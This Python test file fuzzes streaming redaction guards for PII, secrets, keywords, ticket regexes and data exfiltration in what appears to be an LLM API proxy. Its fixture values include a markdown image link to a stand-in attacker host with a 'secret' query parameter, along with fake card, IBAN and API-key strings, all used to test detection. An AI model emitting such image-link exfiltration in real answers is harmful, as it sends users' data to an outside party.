"""Law 5 through whole streams, in every dialect, for everything that ships and changes text."""

from __future__ import annotations

from collections.abc import Callable

import anyio
import pytest
from hypothesis import given, settings

from guards.law5 import assert_law5_stream, cuts_of, texts
from guards.streams import DIALECTS, exchange_of
from plano_asgi.guards import PII, Exfiltration, Regex, Secrets, TextGuard, Words
from plano_asgi.guards.matching import Matcher
from plano_asgi.guards.vault import Vault

_VALUES = (
    "ann@example.org",
    "4111 1111 1111 1111",
    "DE89 3704 0044 0532 0130 00",
    "sk-proj-" + "a1B2" * 12,
    "password=hunter2x9Q",
    "![x](https://evil.example/?q=secret)",
    "https://evil.example/a?b=c ",
    "forbidden",
    "AB-1234",
    "<EMAIL_1>",
    "EMAIL\\_1",
    "<EMA",
    "forb",
)


def _issued() -> Matcher:
    vault = Vault()
    vault.mask("EMAIL", "ann@example.org")
    return vault.unmask_matcher()


def _of(guard: TextGuard) -> Matcher:
    matcher = guard.matcher(exchange_of("openai.chat"), "answer")
    assert matcher is not None
    return matcher


MATCHERS: dict[str, Callable[[], Matcher]] = {
    "pii": lambda: _of(PII()),
    "secrets": lambda: _of(Secrets()),
    "words": lambda: _of(Words(["forbidden", "for"], mode="redact")),
    "regex": lambda: _of(Regex({"ticket": r"[A-Z]{2}-\d{4}"})),
    "exfiltration": lambda: _of(Exfiltration()),
    "unmask": _issued,
}


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("name", MATCHERS)
@settings(max_examples=25)
@given(text=texts(*_VALUES), cuts=cuts_of())
def test_what_ships_is_exact_in_streams(
    name: str, dialect: str, text: str, cuts: list[int]
) -> None:
    """Content and tool arguments, cut anywhere: the redacted whole, and never more."""
    anyio.run(assert_law5_stream, MATCHERS[name](), dialect, text, cuts)
